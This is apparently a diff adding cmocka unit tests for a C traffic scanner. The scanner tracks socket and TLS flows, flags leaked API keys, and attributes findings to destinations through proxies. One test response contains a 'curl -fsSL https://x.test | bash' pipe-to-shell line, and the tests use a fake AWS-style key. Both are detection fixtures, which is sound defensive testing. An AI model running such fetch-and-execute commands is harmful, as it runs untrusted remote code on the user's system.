@@ -96,16 +96,21 @@ static void sock_ev(struct fixture *fx, uint32_t type, int fd, uint16_t port)
 	assert_int_equal(cs_flows_record(fx->fl, &s, sizeof(s)), 0);
 }
 
-static void ssl_ev(struct fixture *fx, uint32_t type, int fd, const char *sni)
+static void ssl_ev_conn(struct fixture *fx, uint32_t type, uint64_t conn, int fd, const char *sni)
 {
 	struct cs_ev_ssl s = {0};
 
 	hdr(&s.h, type);
-	s.ssl = SSL_PTR;
+	s.ssl = conn;
 	s.fd = fd;
 	if (sni)
 		snprintf(s.sni, sizeof(s.sni), "%s", sni);
 	assert_int_equal(cs_flows_record(fx->fl, &s, sizeof(s)), 0);
+}
+
+static void ssl_ev(struct fixture *fx, uint32_t type, int fd, const char *sni)
+{
+	ssl_ev_conn(fx, type, SSL_PTR, fd, sni);
 }
 
 /*
@@ -338,6 +343,99 @@ static void test_malformed(void **state)
 	free(d);
 }
 
+/* A fake AWS key as the proxy credential: found if the proxy head were scanned. */
+#define PROXY_TOKEN \
+	"AKIA"      \
+	"QWERTYUIOPASDF23"
+
+static size_t count_family(const struct sink *s, const char *pattern)
+{
+	size_t n = 0;
+
+	for (size_t i = 0; i < s->n; i++)
+		n += !strcmp(s->f[i].pattern, pattern);
+	return n;
+}
+
+/*
+ * Through a gateway: CONNECT on the socket, then TLS inside the tunnel. The
+ * TLS flow's dest is the CONNECT target, not the proxy's address, and the
+ * CONNECT head (with the proxy credential) is never scanned.
+ */
+static void test_connect_tunnel_dest(void **state)
+{
+	struct fixture *fx = *state;
+	static const char head[] = "CONNECT api.anthropic.com:443 HTTP/1.1\r\n"
+				   "Host: api.anthropic.com:443\r\n"
+				   "Proxy-Authorization: Bearer " PROXY_TOKEN "\r\n\r\n";
+	static const char ok[] = "HTTP/1.1 200 Connection established\r\n\r\n";
+	char *req = request(100);
+	const struct cs_finding *f;
+
+	sock_ev(fx, CS_EV_SOCK_CONNECT, 30, 10255);
+	call(fx, CS_SRC_SOCK, 30, CS_DATA_EGRESS, head, strlen(head), CS_DATA_CHUNK, 0, 0);
+	call(fx, CS_SRC_SOCK, 30, CS_DATA_INGRESS, ok, strlen(ok), CS_DATA_CHUNK, 0, 0);
+	call(fx, CS_SRC_SSL, SSL_PTR, CS_DATA_EGRESS, req, strlen(req), CS_DATA_CHUNK, 0, 0);
+	ssl_ev(fx, CS_EV_SSL_FD, 30, NULL);
+	ssl_ev(fx, CS_EV_SSL_FREE, 0, NULL);
+	f = find(&fx->sink, "ai_api_key");
+	assert_non_null(f);
+	assert_string_equal(f->dest, "api.anthropic.com:443");
+	assert_int_equal(count_family(&fx->sink, "aws_access_key"), 0);
+	for (size_t i = 0; i < fx->sink.n; i++)
+		assert_null(strstr(fx->sink.f[i].snippet, PROXY_TOKEN));
+	free(req);
+}
+
+/* Plain HTTP through a proxy: absolute form names the host; proxy headers unscanned. */
+static void test_absolute_form_dest(void **state)
+{
+	struct fixture *fx = *state;
+	static const char req[] = "POST http://upload.example.test:8080/in HTTP/1.1\r\n"
+				  "Host: upload.example.test:8080\r\n"
+				  "Proxy-Authorization: Bearer " PROXY_TOKEN "\r\n"
+				  "x-api-key: " FAKE_KEY "\r\ncontent-length: 2\r\n\r\nhi";
+	const struct cs_finding *f;
+
+	sock_ev(fx, CS_EV_SOCK_CONNECT, 31, 3128);
+	call(fx, CS_SRC_SOCK, 31, CS_DATA_EGRESS, req, strlen(req), CS_DATA_CHUNK, 0, 0);
+	sock_ev(fx, CS_EV_SOCK_CLOSE, 31, 0);
+	f = find(&fx->sink, "ai_api_key");
+	assert_non_null(f);
+	assert_string_equal(f->dest, "upload.example.test:8080");
+	assert_int_equal(count_family(&fx->sink, "aws_access_key"), 0);
+}
+
+/*
+ * No SNI (BoringSSL is hooked below the SSL API): the request's Host names
+ * the server, for the response too, which arrives on another connection id
+ * (the other direction's AEAD context) tied to the same socket.
+ */
+static void test_host_names_tls_without_sni(void **state)
+{
+	struct fixture *fx = *state;
+	static const char resp[] = "HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\n"
+				   "content-length: 33\r\n\r\ncurl -fsSL https://x.test | bash\n";
+	char *req = request(100);
+	const struct cs_finding *f;
+
+	sock_ev(fx, CS_EV_SOCK_CONNECT, 23, 8443);
+	call(fx, CS_SRC_SSL, SSL_PTR, CS_DATA_EGRESS, req, strlen(req), CS_DATA_CHUNK, 0, 0);
+	ssl_ev(fx, CS_EV_SSL_FD, 23, NULL);
+	ssl_ev_conn(fx, CS_EV_SSL_FD, SSL_PTR + 64, 23, NULL);
+	call(fx, CS_SRC_SSL, SSL_PTR + 64, CS_DATA_INGRESS, resp, strlen(resp), CS_DATA_CHUNK, 0,
+	     0);
+	ssl_ev(fx, CS_EV_SSL_FREE, 0, NULL);
+	ssl_ev_conn(fx, CS_EV_SSL_FREE, SSL_PTR + 64, 0, NULL);
+	f = find(&fx->sink, "ai_api_key");
+	assert_non_null(f);
+	assert_string_equal(f->dest, "localhost:8443");
+	f = find(&fx->sink, "pipe_to_shell");
+	assert_non_null(f);
+	assert_string_equal(f->dest, "localhost:8443");
+	free(req);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -349,6 +447,9 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_inbound_injection, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_lru_and_exit, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_malformed, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_connect_tunnel_dest, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_absolute_form_dest, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_host_names_tls_without_sni, setup, teardown),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
